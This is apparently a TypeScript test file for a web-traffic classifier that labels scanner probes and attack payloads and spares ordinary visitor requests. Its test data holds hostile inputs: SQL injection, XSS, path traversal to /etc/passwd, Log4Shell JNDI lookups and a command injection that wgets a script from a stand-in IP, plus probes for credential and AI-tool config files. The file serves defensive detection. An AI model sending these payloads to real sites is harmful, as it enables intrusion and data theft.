import { describe, expect, it } from 'vitest';
import { ClientTracker, type RequestFacts, classify } from '../src/index.js';

/**
 * Requests a site meets in 2026, labelled with the signals a site owner should see: path probes and payloads (plain
 * and encoded) flagged, and pages and files that real visitors and browsers ask for left alone. The client is a
 * current Chrome unless a case says otherwise; 404s come without a referer, as probes do.
 */
const AT = Date.parse('2026-11-20T10:00:00Z');
const CHROME =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36';
const GOOGLEBOT = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
const OLD_FIREFOX = 'Mozilla/5.0 (Windows NT 6.1; rv:4.0) Firefox/4.0';

const get = (target: string, status: number, extra: Partial<RequestFacts> = {}): RequestFacts => ({
  method: 'GET',
  path: target,
  status,
  userAgent: CHROME,
  ip: '203.0.113.7',
  time: AT,
  ...extra,
});

const REQUESTS: [label: string, request: RequestFacts, signals: string[]][] = [
  // Path probes.
  ['git config', get('/.git/config', 404), ['sensitive-file', 'not-found-probe']],
  ['.env served', get('/.env', 200), ['sensitive-file']],
  [
    'PHPUnit eval-stdin',
    get('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 404),
    ['backdoor-probe', 'cve-probe', 'not-found-probe'],
  ],
  ['cgi-bin on a site without one', get('/cgi-bin/', 404), ['not-found-probe']],
  [
    'GPON router login',
    get('/boaform/admin/formLogin', 404),
    ['admin-interface-probe', 'cve-probe', 'not-found-probe'],
  ],
  ['Spring actuator env', get('/actuator/env', 404), ['sensitive-file', 'not-found-probe']],
  ['Apache server-status', get('/server-status', 404), ['sensitive-file', 'not-found-probe']],
  ['Laravel Ignition', get('/_ignition/execute-solution', 404), ['cve-probe', 'not-found-probe']],
  ['WordPress login', get('/wp-login.php', 404), ['wordpress-probe', 'not-found-probe']],
  [
    'TP-Link router exploit',
    get('/cgi-bin/luci/;stok=/locale?form=country', 404),
    ['cve-probe', 'not-found-probe'],
  ],
  ['Hikvision camera exploit', get('/SDK/webLanguage', 404), ['cve-probe', 'not-found-probe']],
  [
    'TBK DVR exploit',
    get('/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___', 404),
    ['cve-probe', 'not-found-probe'],
  ],
  ['Spring Cloud Gateway routes', get('/actuator/gateway/routes', 404), ['cve-probe', 'not-found-probe']],
  [
    'Confluence OGNL injection, encoded',
    get(
      '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%7D/',
      404,
    ),
    ['cve-probe', 'not-found-probe'],
  ],
  ['Claude Code settings', get('/.claude/settings.json', 404), ['sensitive-file', 'not-found-probe']],
  ['Cursor MCP servers', get('/.cursor/mcp.json', 404), ['sensitive-file', 'not-found-probe']],
  ['project MCP servers', get('/.mcp.json', 404), ['sensitive-file', 'not-found-probe']],
  // Payloads in path and query, plain and encoded.
  ['SQLi tautology, encoded', get('/index.php?id=1%27%20OR%20%271%27=%271', 200), ['sql-injection']],
  ['SQLi double-encoded', get('/index.php?id=1%2527%2520OR%25201=1', 200), ['sql-injection']],
  ['SQLi union', get('/item?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--', 200), ['sql-injection']],
  ['XSS svg onload, encoded', get('/page?x=%3Csvg%2Fonload%3Dalert(1)%3E', 200), ['xss']],
  ['XSS in the path', get('/%3Cscript%3Ealert(1)%3C/script%3E', 404), ['xss', 'not-found-probe']],
  [
    'traversal with encoded slashes',
    get('/static/..%2f..%2f..%2fetc%2fpasswd', 404),
    ['path-traversal', 'not-found-probe'],
  ],
  ['traversal in a parameter', get('/download?file=../../../../etc/passwd', 200), ['path-traversal']],
  ['traversal double-encoded', get('/download?file=..%252f..%252fetc%252fpasswd', 200), ['path-traversal']],
  ['absolute OS file in a parameter', get('/download?file=/etc/passwd', 200), ['path-traversal']],
  [
    'OS file cut by a NUL',
    get('/static/etc/passwd%00.png', 404),
    ['path-traversal', 'malformed-request', 'not-found-probe'],
  ],
  ['Log4Shell in the query', get('/?x=${jndi:ldap://198.51.100.9/a}', 200), ['log4shell']],
  ['Log4Shell encoded', get('/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D', 200), ['log4shell']],
  ['Log4Shell nested', get('/?x=${${lower:j}ndi:ldap://198.51.100.9/a}', 200), ['log4shell']],
  [
    'command injection',
    get('/ping?host=127.0.0.1%7Cwget%20http://198.51.100.9/x.sh', 200),
    ['command-injection'],
  ],
  ['command substitution', get('/?cmd=$(id)', 200), ['command-injection']],
  [
    'remote file include',
    get('/index.php?page=http://198.51.100.9/shell.txt?', 404),
    ['php-remote-include', 'not-found-probe'],
  ],
  [
    'remote include in a .php page parameter',
    get('/index.php?lang=https://198.51.100.9/x', 200),
    ['php-remote-include'],
  ],
  // What people and browsers ask for.
  ['a blog post about wp-login', get('/blog/how-to-secure-wp-login-php', 200), []],
  ['a blog post about /etc/passwd', get('/blog/etc/passwd-explained', 200), []],
  ['a search for SQL words', get('/search?q=select+from+where', 200), []],
  ['a search with an apostrophe', get('/search?q=O%27Reilly', 200), []],
  // A search for markup is worth a signal; one request is not a verdict (see the tracker cases below).
  ['a search for <script>', get('/search?q=%3Cscript%3E', 200), ['xss']],
  [
    'WordPress login sending the user back to the admin page',
    get(
      '/wp-login.php?redirect_to=https%3A%2F%2Fexample.com%2Fwp-admin%2Fadmin.php%3Fpage%3Dstats&reauth=1',
      200,
    ),
    [],
  ],
  ['a share link on a PHP page', get('/share.php?u=https://example.com/blog/post', 200), []],
  ['a search for "100%"', get('/search?q=100%25', 200), []],
  ['a search for "50% off", the % written bare', get('/search?q=50%+off', 200), ['malformed-request']],
  [
    'an overlong UTF-8 slash, double-encoded',
    get('/a%25c0%25afb', 404),
    ['malformed-request', 'not-found-probe'],
  ],
  // Found by harmless-queries-and-crawler-versions-keep-the-verdict: a typed `%e5` and a hashtag after a quote.
  ['a search for the text "%e5" (sent as %25e5)', get('/search?q=%25e5', 200), []],
  ['a search for the text "100%c0a" (sent as 100%25c0a)', get('/search?q=100%25c0a', 200), []],
  ['a search for a colour in quotes', get('/search?q=color%3A+%27%23fff%27', 200), []],
  ['a search for a quoted word and a hashtag', get('/search?q=the+%27best%27+%23deals', 200), []],
  ['a quote closed by a MySQL # comment', get('/login?user=admin%27%23&pass=x', 200), ['sql-injection']],
  ['a quote, a space and a # comment', get('/item?id=1%27+%23', 200), ['sql-injection']],
  [
    'an encoded UTF-16 surrogate, double-encoded',
    get('/a%25ed%25a0%2580b', 404),
    ['malformed-request', 'not-found-probe'],
  ],
  [
    // Found by probe-variants-get-the-plain-path-verdict: the referer was compared undecoded, so this counted as a link.
    'a probe whose referer is itself, both percent-encoded',
    get('/wp-login.ph%70', 404, { host: 'example.com', referer: 'https://example.com/wp-login.ph%70' }),
    ['wordpress-probe', 'not-found-probe'],
  ],
  // Found by exploring page titles and searches: `=data:` alone was a PHP include.
  ['a search for "Data: a primer"', get('/search?q=Data%3A+a+primer', 200), []],
  ['a format parameter data:json', get('/export.php?format=data:json', 200), []],
  [
    'PHP data stream, RFC 2397 without //',
    get('/index.php?page=data:text/plain,%3C?php%20phpinfo();?%3E', 200),
    ['php-remote-include'],
  ],
  [
    'PHP data stream with no media type',
    get('/index.php?page=data:;base64,PD9waHAgcGhwaW5mbygpOz8%2B', 200),
    ['php-remote-include'],
  ],
  ['the site’s own admin page', get('/admin', 200), []],
  ['the site’s admin redirecting to login', get('/admin/', 302), []],
  ['security.txt missing', get('/.well-known/security.txt', 404), []],
  ['robots.txt missing', get('/robots.txt', 404), []],
  ['favicon missing', get('/favicon.ico', 404), []],
  ['apple-touch-icon missing', get('/apple-touch-icon.png', 404), []],
  ['apple-touch-icon-precomposed missing', get('/apple-touch-icon-precomposed.png', 404), []],
  // Crawler addresses.
  ['Googlebot from Google', get('/', 200, { userAgent: GOOGLEBOT, ip: '66.249.66.1' }), []],
  ['Googlebot from elsewhere', get('/', 200, { userAgent: GOOGLEBOT }), ['fake-crawler']],
  ['GoogleOther from Google', get('/', 200, { userAgent: 'GoogleOther', ip: '66.249.66.1' }), []],
  ['GoogleOther from elsewhere', get('/', 200, { userAgent: 'GoogleOther' }), ['fake-crawler']],
  [
    '"Google-Extended", a robots.txt token, sent as a user agent',
    get('/', 200, { userAgent: 'Google-Extended' }),
    ['fake-crawler'],
  ],
  [
    'an old Firefox on wp-login',
    get('/wp-login.php', 404, { userAgent: OLD_FIREFOX }),
    ['wordpress-probe', 'outdated-browser', 'not-found-probe'],
  ],
];

describe('realistic requests of 2026', () => {
  it.each(REQUESTS)('%s', (_label, request, signals) => {
    expect(classify(request).signals).toEqual(signals);
  });
});

/** The tracker's verdict after these requests from one client, `gapMs` apart. */
function verdictOf(requests: RequestFacts[], gapMs = 1000): string | undefined {
  const tracker = new ClientTracker();
  let verdict: string | undefined;
  for (const [i, r] of requests.entries()) {
    const timed = { ...r, time: AT + i * gapMs };
    verdict = tracker.observe(timed, classify(timed))?.verdict ?? verdict;
  }
  return verdict;
}

describe('verdicts on realistic clients', () => {
  it('calls an old Firefox asking for wp-login.php three times a WordPress scan', () => {
    const r = get('/wp-login.php', 404, { userAgent: OLD_FIREFOX });
    expect(classify(r).client.kind).toBe('human');
    expect(verdictOf([r, r, r])).toBe('wordpress-scan');
    // Slower, the WordPress bucket drains and the admin-page bucket fills: the probes are still WordPress's.
    expect(verdictOf([r, r, r], 5000)).toBe('wordpress-scan');
  });

  it('calls WordPress and Joomla probes together an admin scan', () => {
    expect(
      verdictOf([get('/wp-login.php', 404), get('/administrator/', 404), get('/wp-admin/', 404)], 5000),
    ).toBe('admin-scan');
  });

  it('calls Go-http-client asking for .env and .git a sensitive-file scan', () => {
    const go = { userAgent: 'Go-http-client/1.1' };
    expect(verdictOf([get('/.env', 404, go), get('/.git/config', 404, go)])).toBe('sensitive-file-scan');
  });

  it('calls a Googlebot from outside Google a fake crawler at once', () => {
    expect(verdictOf([get('/', 200, { userAgent: GOOGLEBOT })])).toBe('fake-crawler');
  });

  it('calls an internet-wide survey scanner a scanner at once', () => {
    const censys = { userAgent: 'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)' };
    expect(verdictOf([get('/', 200, censys)])).toBe('scanner');
  });

  it('gives no verdict to a verified crawler following a dozen dead links, and calls anyone else doing so probing', () => {
    const dead = (extra: Partial<RequestFacts>) =>
      Array.from({ length: 12 }, (_, i) => get(`/blog/moved-post-${i}`, 404, extra));
    expect(verdictOf(dead({ userAgent: GOOGLEBOT, ip: '66.249.66.1' }))).toBeUndefined();
    expect(verdictOf(dead({}))).toBe('probing');
    // A crawler whose address cannot be checked is anyone who wrote a bot's name.
    const ahrefs = 'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)';
    expect(verdictOf(dead({ userAgent: ahrefs }))).toBe('probing');
    // A Googlebot from elsewhere is an impostor: it is called so at once, whatever it asks for.
    expect(verdictOf(dead({ userAgent: GOOGLEBOT }))).toBe('fake-crawler');
  });

  it('calls one Log4Shell attempt an exploit', () => {
    expect(verdictOf([get('/?x=${jndi:ldap://198.51.100.9/a}', 200)])).toBe('exploit');
  });

  it('gives no verdict to a person searching once for markup, or reading about wp-login', () => {
    expect(verdictOf([get('/search?q=%3Cscript%3E', 200)])).toBeUndefined();
    expect(verdictOf([get('/blog/how-to-secure-wp-login-php', 200)])).toBeUndefined();
  });

  it('gives no verdict to a browser fetching the files browsers ask for, all missing', () => {
    const paths = [
      '/favicon.ico',
      '/apple-touch-icon.png',
      '/apple-touch-icon-precomposed.png',
      '/robots.txt',
      '/.well-known/security.txt',
      '/site.webmanifest',
      '/sitemap.xml',
      '/ads.txt',
      '/.well-known/traffic-advice',
      '/browserconfig.xml',
      '/manifest.json',
      '/humans.txt',
    ];
    expect(verdictOf(paths.map((p) => get(p, 404)))).toBeUndefined();
  });
});
